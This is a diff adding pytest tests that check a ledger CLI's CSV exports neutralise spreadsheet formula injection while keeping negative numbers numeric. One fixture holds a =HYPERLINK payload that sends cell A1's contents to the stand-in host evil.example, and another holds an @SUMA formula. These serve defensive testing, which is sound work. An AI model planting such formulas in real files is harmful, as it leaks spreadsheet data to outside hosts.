@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 
 import pytest
 
@@ -94,3 +95,54 @@ def test_cli_exports_balances_csv_to_a_file(booked, runner, tmp_path):
     result = runner.invoke(args=["ledger", "export", "--format", "csv", "--what", "balances", "-o", str(target)])
     assert result.exit_code == 0
     assert "Klub Ósemka" in target.read_text(encoding="utf-8")
+
+
+# --- formula injection: text neutralised, numbers kept ----------------------------------------
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1;"Kliknij")'
+HOSTILE_MEMO = "@SUMA(A1:A9) i -2+3 za salę"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def hostile(make_account, operator):
+    a, b = make_account(HOSTILE_NAME, floor=-500), make_account("-Klub Minus")
+    entry = transfer_points(operator, a.id, b.id, 30, HOSTILE_MEMO, "+48-key")
+    return a, b, entry
+
+
+def _only_numbers_start_like_formulas(rows):
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-\d+", cell), cell
+
+
+def test_entries_csv_neutralises_typed_text_and_keeps_negative_points(hostile, runner):
+    a, b, entry = hostile
+    for text in ("".join(iter_entries_csv()), runner.invoke(args=["ledger", "export", "--format", "csv"]).output):
+        rows = [r for r in _rows(text) if r["entry_id"] == str(entry.id)]
+        by_ref = {r["account_ref"]: r for r in rows}
+        assert by_ref[a.ref]["account_name"] == "'" + HOSTILE_NAME
+        assert by_ref[b.ref]["account_name"] == "'-Klub Minus"
+        assert {r["memo"] for r in rows} == {"'" + HOSTILE_MEMO}
+        assert {r["idempotency_key"] for r in rows} == {"'+48-key"}
+        assert (by_ref[a.ref]["points"], by_ref[b.ref]["points"]) == ("-30", "30")  # numbers stay numbers
+        _only_numbers_start_like_formulas(_rows(text))
+
+
+def test_balances_csv_neutralises_names_and_keeps_negative_balances_and_floors(hostile, runner):
+    a, b, _entry = hostile
+    for text in ("".join(iter_balances_csv()),
+                 runner.invoke(args=["ledger", "export", "--format", "csv", "--what", "balances"]).output):
+        by_ref = {r["account_ref"]: r for r in _rows(text)}
+        assert by_ref[a.ref]["account_name"] == "'" + HOSTILE_NAME
+        assert (by_ref[a.ref]["balance"], by_ref[a.ref]["floor"]) == ("-30", "-500")
+        assert by_ref[b.ref]["account_name"] == "'-Klub Minus"
+        _only_numbers_start_like_formulas(_rows(text))
+
+
+def test_the_json_export_keeps_the_text_as_typed(hostile):
+    a, _b, entry = hostile
+    document = ledger_document()
+    assert {x["name"] for x in document["accounts"] if x["ref"] == a.ref} == {HOSTILE_NAME}
+    assert {e["memo"] for e in document["entries"] if e["id"] == entry.id} == {HOSTILE_MEMO}
